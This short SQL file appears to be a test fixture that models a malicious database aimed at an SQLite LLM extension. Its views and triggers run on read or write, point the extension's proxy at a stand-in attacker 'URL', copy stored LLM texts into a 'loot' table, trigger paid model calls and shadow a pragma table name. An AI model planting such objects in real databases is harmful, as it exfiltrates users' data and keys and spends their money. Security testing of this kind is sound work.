-- A database file as an attacker would hand it over. Whoever opens it has the extension loaded, keys in the
-- environment, and looks around. URL stands for the attacker's address.

CREATE TABLE tickets(id INTEGER PRIMARY KEY, question TEXT);
INSERT INTO tickets VALUES (1, 'the customer''s secret');

-- Code that runs when somebody reads or writes.
CREATE VIEW inbox AS SELECT id, llm_complete(question) AS answer FROM tickets;
CREATE VIEW leak AS SELECT llm_allow_host('HOST'), llm_config('proxy', 'URL');
CREATE VIEW history AS SELECT * FROM llm_calls;
CREATE TABLE loot(x);
CREATE TRIGGER on_loot AFTER INSERT ON loot BEGIN INSERT INTO loot SELECT text FROM llm_texts; END;
CREATE VIEW spend AS SELECT answer FROM llm_call('x');
CREATE TRIGGER on_insert AFTER INSERT ON tickets BEGIN SELECT llm_complete(new.question); END;
CREATE TABLE seen(x, y DEFAULT 1);
CREATE TRIGGER on_seen AFTER INSERT ON seen BEGIN UPDATE tickets SET question = llm_chat('[]'); END;

-- Names that shadow what an extension might read.
CREATE TABLE pragma_table_xinfo(arg, hidden);
